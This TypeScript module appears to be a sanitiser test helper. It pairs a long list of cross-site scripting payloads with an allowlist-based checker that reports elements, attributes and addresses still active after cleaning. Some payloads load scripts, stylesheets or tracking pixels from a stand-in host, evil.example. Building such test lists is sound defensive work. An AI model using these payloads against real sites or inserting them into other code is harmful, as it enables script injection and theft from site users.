import { parseDocument } from 'htmlparser2';

/** Strings that are known to have run script in some page or other, and what a page may hold. */

export const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script>alert(1)',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<script >alert(1)</script >',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=javascript:alert(1)>',
  '<img src=x:x onerror=alert(1)//',
  '<img """><script>alert(1)</script>">',
  '<img src="/media/../api/logout">',
  '<img src="//evil.example/pixel.gif">',
  '<img srcset="https://evil.example/x 1x" src=/media/a.png>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form><button formaction=javascript:alert(1)>x</button></form>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<keygen autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<video poster=javascript:alert(1)//></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<body onload=alert(1)>',
  '<body background="javascript:alert(1)">',
  '<marquee onstart=alert(1)>x</marquee>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="position:fixed;inset:0">x</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&Tab;ascript&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/&#9;/evil.example">x</a>',
  '<a onmouseover="alert(1)" href="/x">x</a>',
  '<a href="/x" target=_top style=x>x</a>',
  '<b onclick=alert(1)>x</b>',
  '<b id=location class=admin>x</b>',
  '<x onclick=alert(1)>x</x>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<template><script>alert(1)</script></template>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<plaintext><script>alert(1)',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](<java\tscript:alert(1)>)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](//evil.example)',
  '[x](/x"onmouseover="alert(1))',
  '[x](/x \'"onmouseover="alert(1)\')',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '<vbscript:x>',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](/media/a.png)',
  '![x](https://evil.example/pixel.gif)',
  '![x](/media/a.png"onerror="alert(1))',
  '```"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
  '⚠️ <img src=x onerror=alert(1)>',
  '- Caution: <script>alert(1)</script>',
  '\u0000<script\u0000>alert(1)</script>',
  '<script\u0000>alert(1)</script>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)\\</script>',
];

const ATTRIBUTES: Record<string, string[]> = {
  a: ['href', 'rel', 'title'],
  abbr: ['title'],
  img: ['src', 'alt', 'loading'],
  ol: ['start', 'type', 'reversed'],
  td: ['align', 'colspan', 'rowspan'],
  th: ['align', 'colspan', 'rowspan', 'scope'],
  p: ['class'],
  li: ['class'],
  strong: ['class'],
};
const ELEMENTS = new Set(
  `a abbr b blockquote br caption cite code dd del details dfn div dl dt em figcaption figure h1 h2
   h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strong sub summary sup table
   tbody td tfoot th thead tr u ul var`.split(/\s+/),
);

interface Node {
  type: string;
  name?: string;
  attribs?: Record<string, string>;
  children?: Node[];
}

/** What a reader's browser would find in a piece of HTML and must not: elements, attributes, addresses. */
export function activeParts(html: string): string[] {
  return (parseDocument(html).children as Node[]).flatMap(activeIn);
}

function activeIn(node: Node): string[] {
  const below = (node.children ?? []).flatMap(activeIn);
  if (node.type === 'text' || node.type === 'root') return below;
  const name = node.name ?? node.type;
  if (node.type !== 'tag' || !ELEMENTS.has(name)) return [`<${name}>`, ...below];
  const attributes = Object.entries(node.attribs ?? {})
    .filter(([key, value]) => !ATTRIBUTES[name]?.includes(key) || !isHarmless(key, value))
    .map(([key, value]) => `<${name} ${key}=${value}>`);
  return [...attributes, ...below];
}

function isHarmless(attribute: string, value: string): boolean {
  if (attribute === 'class') return value === 'caution' || value === 'caution-word';
  if (attribute !== 'href' && attribute !== 'src') return true;
  const url = new URL(value, 'https://site.example/page');
  if (attribute === 'src') return url.href.startsWith('https://site.example/media/');
  const saysItsHost = /^(?:https?:\/\/|mailto:)/i.test(value);
  return saysItsHost || url.origin === 'https://site.example';
}
